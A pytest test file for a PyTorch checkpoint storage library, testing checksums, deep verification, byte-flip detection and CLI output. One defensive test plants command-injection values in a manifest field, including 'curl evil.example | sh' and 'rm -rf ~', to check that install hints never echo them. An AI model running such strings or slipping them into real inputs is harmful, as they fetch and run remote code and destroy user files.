"""Checksums on write, verification on read and in ``verify --deep``, provenance descriptors (DCP native).

The bar from the issue: a single flipped byte anywhere in a data file is detected in 50 of 50 seeded
random trials, by ``verify(deep=True)`` and by a ``verify=True`` load, and the error names the file and
the key stored there.
"""

from __future__ import annotations

import json
import random
import shutil
from pathlib import Path
from typing import Any

import pytest
import torch
import torch.distributed.checkpoint as dcp

from dcp_storage import FsspecReader, FsspecWriter, open_reader, verify
from dcp_storage.cli import main as cli_main
from dcp_storage.integrity.checksums import ALGORITHMS, DEFAULT_ALGORITHM, HashingWriter, checksum
from dcp_storage.integrity.manifest import MANIFEST_FILE, Manifest
from dcp_storage.opening import UnknownFormatError
from dcp_storage_testing.distributed import run_ranks

from . import _rank_fns as R
from ._flips import dcp_records, flipped, load_error

TRIALS = 50
SEED = 20240611


def _state() -> dict[str, Any]:
    g = torch.Generator().manual_seed(3)
    return {
        "model": {
            "embed": torch.randn(64, 32, generator=g),
            "w1": torch.randn(32, 48, generator=g).to(torch.bfloat16),
            "b1": torch.randn(48, generator=g),
            "ids": torch.arange(20),
        },
        "step": 7,
    }


def _blank() -> dict[str, Any]:
    return {
        "model": {
            "embed": torch.zeros(64, 32),
            "w1": torch.zeros(32, 48, dtype=torch.bfloat16),
            "b1": torch.zeros(48),
            "ids": torch.zeros(20, dtype=torch.int64),
        },
        "step": 0,
    }


def _save(path: Path, **kwargs: Any) -> Path:
    dcp.save(_state(), storage_writer=FsspecWriter(path, **kwargs), no_dist=True)
    return path


@pytest.fixture(scope="module")
def ckpt(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small multi-file checkpoint: one file per item (5 data files)."""
    return _save(tmp_path_factory.mktemp("integrity") / "ckpt", single_file_per_rank=False)


def test_manifest_written_and_torch_still_loads(ckpt: Path) -> None:
    manifest = Manifest.from_json((ckpt / MANIFEST_FILE).read_bytes(), str(ckpt))
    assert manifest.format == "dcp/1" and manifest.format_distribution == "dcp-storage"
    assert manifest.writer.startswith("dcp-storage/") and manifest.algorithm == DEFAULT_ALGORITHM
    records = dcp_records(ckpt)
    assert len(records) == 5 and {r[0] for r in records} == set(manifest.files)
    for name, entry in manifest.files.items():
        data = (ckpt / name).read_bytes()
        assert entry.size == len(data)
        assert sum(i.length for i in entry.items) == len(data)  # items tile the file
        for item in entry.items:
            assert checksum(data[item.offset : item.end], DEFAULT_ALGORITHM) == item.digest
    out = _blank()
    dcp.load(out, storage_reader=dcp.FileSystemReader(str(ckpt)), no_dist=True)  # torch's own reader
    assert torch.equal(out["model"]["embed"], _state()["model"]["embed"]) and out["step"] == 7
    out = _blank()
    dcp.load(out, storage_reader=FsspecReader(ckpt, verify=True), no_dist=True)
    assert torch.equal(out["model"]["w1"], _state()["model"]["w1"])


@pytest.mark.parametrize("algorithm", ["xxh64", "crc32c", "crc32"])
def test_every_algorithm_is_recorded_and_checked(tmp_path: Path, algorithm: str) -> None:
    path = _save(tmp_path / "c", checksum_algorithm=algorithm)
    manifest = Manifest.from_json((path / MANIFEST_FILE).read_bytes(), str(path))
    assert manifest.algorithm == algorithm
    assert all(len(i.digest) == ALGORITHMS[algorithm][1] for f in manifest.files.values() for i in f.items)
    report = verify(path, deep=True)
    assert report.ok and report.checked["checksum_records"] == 5, report


def test_hashing_writer_refuses_uncovered_bytes() -> None:
    import io

    w = HashingWriter(io.BytesIO())
    with pytest.raises(RuntimeError, match="not be covered"):
        w.write(b"x")


def test_single_byte_flips_are_all_detected(ckpt: Path, tmp_path: Path) -> None:
    work = tmp_path / "flips"
    shutil.copytree(ckpt, work)
    records = dcp_records(work)
    files = sorted({r[0] for r in records})
    rng = random.Random(SEED)
    detected_verify = detected_load = 0
    for _ in range(TRIALS):
        name = rng.choice(files)
        path = work / name
        pos = rng.randrange(path.stat().st_size)
        key = next(k for f, o, n, k in records if f == name and o <= pos < o + n)
        with flipped(path, pos, rng):
            report = verify(work, deep=True)
            if any(name in p and repr(key) in p and "checksum mismatch" in p for p in report.problems):
                detected_verify += 1
            text = load_error(lambda: dcp.load(_blank(), storage_reader=FsspecReader(work, verify=True), no_dist=True))
            if "CorruptCheckpointError" in text and name in text and repr(key) in text and "checksum" in text:
                detected_load += 1
    assert (detected_verify, detected_load) == (TRIALS, TRIALS)


def test_verify_cli_exit_codes(ckpt: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = tmp_path / "good"
    shutil.copytree(ckpt, good)
    assert cli_main(["verify", str(good), "--deep"]) == 0
    out = capsys.readouterr().out
    assert "OK" in out and f"{DEFAULT_ALGORITHM} checksums of 5 records in 5 files checked" in out

    damaged = tmp_path / "damaged"
    shutil.copytree(ckpt, damaged)
    name, offset, length, key = max(dcp_records(damaged), key=lambda r: r[2])
    data = bytearray((damaged / name).read_bytes())
    data[offset + length - 3] ^= 0x01  # inside the tensor bytes: the record still decodes
    (damaged / name).write_bytes(data)
    assert cli_main(["verify", str(damaged)]) == 0  # shallow: sizes are intact
    capsys.readouterr()
    assert cli_main(["verify", str(damaged), "--deep"]) == 1
    cap = capsys.readouterr()
    # the deep read is a checked load: it names the tensor, and the checksum check adds no second problem
    assert f"PROBLEM: tensor {key!r}: {damaged / name} bytes [{offset}, {offset + length}) (holding {key!r})" in cap.out
    assert "checksum mismatch" in cap.out and cap.err.startswith("dcp-storage verify: error: 1 problem(s)")

    truncated = tmp_path / "truncated"
    shutil.copytree(ckpt, truncated)
    (truncated / name).write_bytes(data[:-10])
    assert cli_main(["verify", str(truncated), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert not report["ok"] and any(name in p and "truncated" in p for p in report["problems"]), report


def test_inspect_shows_descriptors(ckpt: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["inspect", str(ckpt)]) == 0
    out = capsys.readouterr().out
    assert "written:    dcp/1 by dcp-storage/" in out and f"checksums:  {DEFAULT_ALGORITHM}, 5 records" in out


def test_unknown_format_descriptor_names_the_distribution(ckpt: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(ckpt, other)
    doc = json.loads((other / MANIFEST_FILE).read_bytes())
    doc.update(format="tiled/3", format_distribution="dcp-storage-tiled")
    (other / MANIFEST_FILE).write_text(json.dumps(doc))
    with pytest.raises(UnknownFormatError, match=r"'tiled/3'.*pip install dcp-storage-tiled"):
        open_reader(other)


def test_torch_checkpoint_has_no_checksums(tmp_path: Path) -> None:
    path = tmp_path / "torch"
    dcp.save(_state(), storage_writer=dcp.FileSystemWriter(str(path)), no_dist=True)
    report = verify(path, deep=True)
    assert report.ok and any("no checksums recorded" in n for n in report.notes), report
    with pytest.warns(RuntimeWarning, match="records no checksums"):
        dcp.load(_blank(), storage_reader=FsspecReader(path, verify=True), no_dist=True)


def test_two_rank_save_records_every_rank(tmp_path: Path) -> None:
    path = tmp_path / "two"
    written = run_ranks(R.save_sharded, 2, str(path), timeout=120.0)
    manifest = Manifest.from_json((path / MANIFEST_FILE).read_bytes(), str(path))
    assert written[0] and written[1]
    assert set(manifest.files) == set(written[0]) | set(written[1])
    report = verify(path, deep=True)
    assert report.ok and report.checked["checksum_records"] == sum(len(f.items) for f in manifest.files.values())


def _unknown_format_copy(ckpt: Path, tmp_path: Path, distribution: str) -> Path:
    """A copy of ``ckpt`` whose manifest names format ``tiled/3`` from ``distribution`` (no such plugin)."""
    other = tmp_path / "other"
    shutil.copytree(ckpt, other)
    doc = json.loads((other / MANIFEST_FILE).read_bytes())
    doc.update(format="tiled/3", format_distribution=distribution)
    (other / MANIFEST_FILE).write_text(json.dumps(doc))
    return other


@pytest.mark.parametrize(
    "distribution", ["x; curl evil.example | sh", "dcp-storage-zstd==0.1 && rm -rf ~", "$(touch /tmp/pwned)", "a b"]
)
def test_a_manifest_cannot_make_an_install_hint_a_command(ckpt: Path, tmp_path: Path, distribution: str) -> None:
    """Install hints quote names read from the checkpoint: a hostile one must never reach a suggested command."""
    with pytest.raises(UnknownFormatError) as info:
        open_reader(_unknown_format_copy(ckpt, tmp_path, distribution))
    message = str(info.value)
    assert "pip install" not in message and distribution not in message, message
    assert "names no valid distribution: install nothing it names" in message, message


def test_a_valid_install_hint_says_where_the_name_came_from(ckpt: Path, tmp_path: Path) -> None:
    with pytest.raises(UnknownFormatError, match=r"pip install dcp-storage-tiled \(a name read from the checkpoint"):
        open_reader(_unknown_format_copy(ckpt, tmp_path, "dcp-storage-tiled"))


def test_deep_verify_names_every_unreadable_tensor_of_a_batch(ckpt: Path, tmp_path: Path) -> None:
    """Tensors are read in batches; a batch with two unreadable records (their zip headers broken) is read
    again one by one, so the report names both tensors and still counts the intact ones as read."""
    work = tmp_path / "two"
    shutil.copytree(ckpt, work)
    records = {key: (name, offset) for name, offset, _, key in dcp_records(work)}
    damaged = ["model.embed", "model.b1"]
    for key in damaged:
        name, offset = records[key]
        data = bytearray((work / name).read_bytes())
        data[offset : offset + 4] = b"JUNK"  # the record's local zip header
        (work / name).write_bytes(data)
    report = verify(work, deep=True)
    tensor_problems = [p for p in report.problems if p.startswith("tensor ")]
    assert sorted(p.split("'")[1] for p in tensor_problems) == sorted(damaged), report.problems
    assert report.checked["tensors_read"] == 2  # model.w1 and model.ids
